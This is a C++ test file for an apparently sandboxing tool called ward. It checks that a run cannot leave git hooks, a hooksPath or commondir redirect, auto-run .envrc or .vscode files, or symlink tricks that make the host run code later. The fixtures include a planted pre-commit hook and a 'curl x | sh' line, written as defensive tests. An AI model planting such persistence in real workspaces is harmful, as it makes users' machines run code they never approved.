// Nothing a run leaves in the workspace makes the host run code later: repositories made or
// redirected during the run, auto-run files in new directories, a git directory moved into
// place whole, a socket at .ward.toml. Each is checked from outside, with the host's own git,
// and each has a positive control (the restored item does run; the legitimate flows work).
#include <sys/stat.h>
#include <unistd.h>

#include <thread>

#include <nlohmann/json.hpp>

#include "harness.h"

namespace ward::test {
namespace {

class WorkspaceLeavesNothing : public SandboxTest {
 protected:
  // The host's git, as the test's identity, with no config of the machine's.
  RunResult HostGit(const std::string& dir, std::vector<std::string> args) {
    std::vector<std::string> argv = {"/usr/bin/git", "-C", dir, "-c", "user.email=t@t", "-c",
                                     "user.name=t"};
    argv.insert(argv.end(), args.begin(), args.end());
    RunOptions o = Defaults();
    o.env["GIT_CONFIG_NOSYSTEM"] = "1";
    o.env["GIT_CONFIG_GLOBAL"] = "/dev/null";
    return RunProgram(argv, o);
  }

  nlohmann::json Quarantined() {
    RunResult r = RunWard({"quarantine", "list", "--json"}, Defaults());
    EXPECT_EQ(r.status, 0) << r.err;
    nlohmann::json j = nlohmann::json::parse(r.out, nullptr, false);
    return j.is_array() ? j : nlohmann::json::array();
  }

  std::string IdOf(const std::string& path) {
    for (const auto& q : Quarantined()) {
      if (q.value("path", "") == path) return q.value("id", "");
    }
    return "";
  }

  // A hook that leaves a mark where the test can see it.
  std::string MarkingHook() { return "#!/bin/sh\ntouch " + root_->path() + "/MARK\n"; }
  bool Marked() { return PathExists(root_->path() + "/MARK"); }
};

// .git/commondir would make the host's git read config and hooks from a directory the sandbox
// chose: in a repository that exists when the run starts it cannot be created.
TEST_F(WorkspaceLeavesNothing, CommonDirCannotRedirectAnExistingRepository) {
  ASSERT_EQ(HostGit(ws_, {"init", "-q"}).status, 0);
  RunResult r = Shell("echo /tmp/evil > .git/commondir; echo rc=$?; echo ok > .git/description");
  EXPECT_NE(r.out.find("rc=2"), std::string::npos) << r.out << r.err;
  EXPECT_FALSE(PathExists(ws_ + "/.git/commondir"));
  EXPECT_NE(r.err.find("ward: blocked 1 write to " + ws_ + "/.git/commondir (protected) — see: ward why " +
                       ws_ + "/.git/commondir\n"),
            std::string::npos)
      << r.err;
  EXPECT_EQ(ReadFile(ws_ + "/.git/description"), "ok\n");  // control: the rest of .git is git's
}

// A repository made during the run may make hooks (git init works), but none is left where
// the host's git would run it; restored, it runs (so the test could see it).
TEST_F(WorkspaceLeavesNothing, HooksOfARepositoryMadeDuringTheRunDoNotRunOnTheHost) {
  WriteFile(root_->path() + "/hook", MarkingHook(), 0755);
  RunResult r = Shell("git init -q sub && cat > sub/.git/hooks/pre-commit && "
                      "chmod +x sub/.git/hooks/pre-commit && ls sub/.git/hooks | grep -c sample",
                      {}, RunOptions{.stdin_data = MarkingHook()});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_NE(r.out, "0\n");  // git's samples were made
  const std::string hook = ws_ + "/sub/.git/hooks/pre-commit";
  EXPECT_NE(r.err.find("ward: quarantined " + hook), std::string::npos) << r.err;
  EXPECT_FALSE(PathExists(hook));
  EXPECT_TRUE(PathExists(ws_ + "/sub/.git/hooks/pre-commit.sample"));
  ASSERT_EQ(HostGit(ws_ + "/sub", {"commit", "-q", "--allow-empty", "-m", "x"}).status, 0);
  EXPECT_FALSE(Marked());
  const std::string id = IdOf(hook);
  ASSERT_FALSE(id.empty());
  EXPECT_EQ(RunWard({"quarantine", "restore", id}, Defaults()).status, 0);
  ASSERT_EQ(HostGit(ws_ + "/sub", {"commit", "-q", "--allow-empty", "-m", "y"}).status, 0);
  EXPECT_TRUE(Marked());  // control
  EXPECT_TRUE(IdOf(hook).empty());
}

// A new repository's config keeps its inert keys; a key that runs code or redirects git goes.
TEST_F(WorkspaceLeavesNothing, RiskyConfigOfANewRepositoryKeepsOnlyItsInertKeys) {
  RunResult r = Shell("git init -q sub && mkdir evil && cat > evil/pre-commit && "
                      "chmod +x evil/pre-commit && git -C sub config core.hooksPath " + ws_ +
                          "/evil && git -C sub config remote.origin.url /srv/x.git",
                      {}, RunOptions{.stdin_data = MarkingHook()});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string config = ws_ + "/sub/.git/config";
  EXPECT_NE(r.err.find("ward: quarantined " + config), std::string::npos) << r.err;
  std::string now = ReadFile(config);
  EXPECT_EQ(now.find("hooksPath"), std::string::npos) << now;
  EXPECT_NE(now.find("/srv/x.git"), std::string::npos) << now;
  ASSERT_EQ(HostGit(ws_ + "/sub", {"commit", "-q", "--allow-empty", "-m", "x"}).status, 0);
  EXPECT_FALSE(Marked());
  EXPECT_EQ(RunWard({"quarantine", "restore", IdOf(config)}, Defaults()).status, 0);
  ASSERT_EQ(HostGit(ws_ + "/sub", {"commit", "-q", "--allow-empty", "-m", "y"}).status, 0);
  EXPECT_TRUE(Marked());  // control: restored, the key works
}

// A git directory prepared elsewhere and moved into place whole is judged whole.
TEST_F(WorkspaceLeavesNothing, AGitDirMovedIntoPlaceIsJudgedWhole) {
  RunResult r = Shell(
      "mkdir -p x/objects x/refs/heads x/hooks && echo 'ref: refs/heads/main' > x/HEAD && "
      "cat > x/hooks/pre-commit && chmod +x x/hooks/pre-commit && mv x .git && echo moved",
      {}, RunOptions{.stdin_data = MarkingHook()});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(r.out, "moved\n");
  EXPECT_FALSE(PathExists(ws_ + "/.git/hooks/pre-commit")) << r.err;
  ASSERT_EQ(HostGit(ws_, {"commit", "-q", "--allow-empty", "-m", "x"}).status, 0);
  EXPECT_FALSE(Marked());
  EXPECT_FALSE(IdOf(ws_ + "/.git/hooks/pre-commit").empty());
}

// A ".git" that is not a repository yet becomes one at the host's next `git init`, which keeps
// the hooks it finds: its hooks go too.
TEST_F(WorkspaceLeavesNothing, HooksInADotGitThatIsNoRepositoryYetAreQuarantined) {
  RunResult r = Shell("mkdir -p .git/hooks && cat > .git/hooks/pre-commit && "
                      "chmod +x .git/hooks/pre-commit && echo planted",
                      {}, RunOptions{.stdin_data = MarkingHook()});
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "planted\n");
  EXPECT_FALSE(PathExists(ws_ + "/.git/hooks/pre-commit")) << r.err;
  ASSERT_EQ(HostGit(ws_, {"init", "-q"}).status, 0);
  ASSERT_EQ(HostGit(ws_, {"commit", "-q", "--allow-empty", "-m", "x"}).status, 0);
  EXPECT_FALSE(Marked());
  EXPECT_EQ(RunWard({"quarantine", "restore", IdOf(ws_ + "/.git/hooks/pre-commit")}, Defaults())
                .status,
            0);
  ASSERT_EQ(HostGit(ws_, {"commit", "-q", "--allow-empty", "-m", "y"}).status, 0);
  EXPECT_TRUE(Marked());  // control: restored, git runs it
}

// What the host changes while a run lasts is not the run's: the existing repository's config and
// an existing .envrc were read-only inside, so the check leaves the host's edits alone.
TEST_F(WorkspaceLeavesNothing, HostEditsDuringTheRunAreNotQuarantined) {
  ASSERT_EQ(HostGit(ws_, {"init", "-q"}).status, 0);
  WriteFile(ws_ + "/.envrc", "export A=1\n");
  sleep(1);  // past the file system's timestamp granularity: the run starts after these
  std::thread host([&] {
    usleep(400 * 1000);
    HostGit(ws_, {"config", "core.pager", "less"});
    WriteFile(ws_ + "/.envrc", "export A=2\n");
    WriteFile(ws_ + "/.git/hooks/pre-push", "#!/bin/sh\n", 0755);
  });
  RunResult r = Shell("sleep 1.5; mkdir -p s && echo x > s/.envrc");
  host.join();
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(ReadFile(ws_ + "/.envrc"), "export A=2\n");
  EXPECT_NE(ReadFile(ws_ + "/.git/config").find("pager = less"), std::string::npos);
  EXPECT_TRUE(PathExists(ws_ + "/.git/hooks/pre-push"));
  EXPECT_FALSE(PathExists(ws_ + "/s/.envrc"));  // control: what the run made is taken
  EXPECT_EQ(Quarantined().size(), 1u) << r.err;
}

// Auto-run files are host-executed wherever they appear, not only at the workspace's top.
TEST_F(WorkspaceLeavesNothing, AutoRunFilesInNewDirectoriesAreQuarantined) {
  RunResult r = Shell("mkdir -p a/b c/.vscode && echo 'curl x | sh' > a/b/.envrc && "
                      "echo '{}' > c/.vscode/tasks.json && echo kept > a/b/notes");
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(PathExists(ws_ + "/a/b/.envrc"));
  EXPECT_FALSE(PathExists(ws_ + "/c/.vscode"));
  EXPECT_EQ(ReadFile(ws_ + "/a/b/notes"), "kept\n");  // control
  EXPECT_FALSE(IdOf(ws_ + "/a/b/.envrc").empty());
  EXPECT_FALSE(IdOf(ws_ + "/c/.vscode").empty());
}

// The check opens nothing through a symlink: a repository moved away and replaced by a link to
// a directory outside the workspace leaves that directory alone, and is found where it went.
TEST_F(WorkspaceLeavesNothing, ALinkPlantedInTheWorkspaceCannotSteerTheCheck) {
  const std::string outside = root_->path() + "/outside";
  MakeDirs(outside + "/.git/hooks");
  WriteFile(outside + "/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
  RunResult r = Shell("git init -q d && cat > d/.git/hooks/pre-commit && mv d d2 && ln -s " +
                          outside + " d",
                      {}, RunOptions{.stdin_data = MarkingHook()});
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(PathExists(outside + "/.git/hooks/pre-commit"));
  EXPECT_FALSE(PathExists(ws_ + "/d2/.git/hooks/pre-commit")) << r.err;  // control: found
}

// The flows an agent needs keep working, and their results are usable on the host, with
// nothing quarantined.
TEST_F(WorkspaceLeavesNothing, GitFlowsInsideStayUsableOnTheHost) {
  const std::string origin = ws_ + "/origin";
  MakeDirs(origin);
  ASSERT_EQ(HostGit(origin, {"init", "-q"}).status, 0);
  WriteFile(origin + "/f", "1\n");
  ASSERT_EQ(HostGit(origin, {"add", "f"}).status, 0);
  ASSERT_EQ(HostGit(origin, {"commit", "-q", "-m", "one"}).status, 0);
  RunResult r = Shell(
      "export GIT_CONFIG_GLOBAL=/dev/null; git clone -q origin clone && cd clone && "
      "git -c user.email=i@i -c user.name=i commit -q --allow-empty -m inside && "
      "git checkout -q -b topic && git init -q ../fresh && echo done");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(r.out, "done\n");
  EXPECT_EQ(r.err.find("quarantined"), std::string::npos) << r.err;
  RunResult log = HostGit(ws_ + "/clone", {"log", "--format=%s"});
  EXPECT_EQ(log.out, "inside\none\n") << log.err;
  EXPECT_EQ(HostGit(ws_ + "/clone", {"rev-parse", "--abbrev-ref", "HEAD"}).out, "topic\n");
  EXPECT_EQ(HostGit(ws_ + "/clone", {"remote", "get-url", "origin"}).out, origin + "\n");
  EXPECT_TRUE(Quarantined().empty());
}

// git init at the workspace's top (where .git/hooks and .git/config are protected names) works
// and leaves a repository the host's git uses, with nothing quarantined.
TEST_F(WorkspaceLeavesNothing, GitInitInAnEmptyWorkspaceWorks) {
  RunResult r = Shell("git init -q && ls .git/hooks | grep -c sample");
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out, "0\n");
  EXPECT_TRUE(PathExists(ws_ + "/.git/config"));
  EXPECT_EQ(r.err.find("ward:"), std::string::npos) << r.err;
  EXPECT_EQ(HostGit(ws_, {"status", "--short"}).status, 0);
  EXPECT_TRUE(Quarantined().empty());
}

// A socket bound at .ward.toml (bind(2) is not trapped) is gone after the run, so the next
// run in that workspace is not broken by it.
TEST_F(WorkspaceLeavesNothing, ASocketAtTheWorkspaceFileIsRemovedAfterTheRun) {
  RunResult r = Shell("python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('.ward.toml')\""
                      " && test -S .ward.toml && echo bound");
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "bound\n");
  struct stat st;
  EXPECT_NE(lstat((ws_ + "/.ward.toml").c_str(), &st), 0);
  EXPECT_FALSE(IdOf(ws_ + "/.ward.toml").empty());
  EXPECT_EQ(Shell("echo next").out, "next\n");  // control: the next run works
}

}  // namespace
}  // namespace ward::test
